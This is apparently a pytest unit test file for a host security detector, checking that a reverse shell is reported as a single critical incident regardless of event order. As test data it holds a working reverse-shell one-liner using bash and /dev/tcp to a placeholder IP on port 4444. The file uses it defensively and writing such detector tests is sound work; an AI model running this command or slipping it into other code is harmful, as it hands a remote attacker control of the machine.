"""A program's start that is told after what it did: the same story, in whichever order the two come."""

from collections.abc import Callable

import pytest

from tests.unit.host.judge.recording import OUTSIDE, Recording, Verdicts

SHELL = ["bash", "-c", "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"]


def in_order(scene: Recording, late: bool, starts: Callable[[], object]) -> None:
    """A shell dials out; `starts` tells of the programs, before or after."""
    if not late:
        starts()
    scene.dial(601, OUTSIDE, exe="/usr/bin/bash")
    if late:
        starts()


@pytest.mark.parametrize("late", [False, True])
def test_a_reverse_shell_is_one_story_with_the_command_that_made_it(late: bool) -> None:
    """`bash -c` starts `bash -i`, whose connection another sense told of first."""
    scene = Recording()
    scene.coverage()

    def starts() -> None:
        scene.process(600, "/usr/bin/bash", SHELL)
        scene.process(601, "/usr/bin/bash", ["bash", "-i"], line=(600,))

    in_order(scene, late, starts)
    (incident,) = (one for one in Verdicts(scene.facts).incidents.values() if one["joined"] is None)
    assert incident["title"].startswith("Remote control not allowed: reverse shell")
    assert incident["level"] == "critical"
    assert any("Reverse shell by its command" in rule for rule in incident["rules"])


def test_one_that_ran_before_the_agent_is_no_reason_to_join_two_stories() -> None:
    """A new run of the agent tells again of all that runs."""
    scene = Recording()
    scene.coverage()

    def starts() -> None:
        scene.process(600, "/usr/bin/bash", SHELL)
        scene.process(601, "/usr/bin/bash", ["bash", "-i"], line=(600,), existing=True)

    in_order(scene, True, starts)
    assert len(Verdicts(scene.facts).incidents) == 2
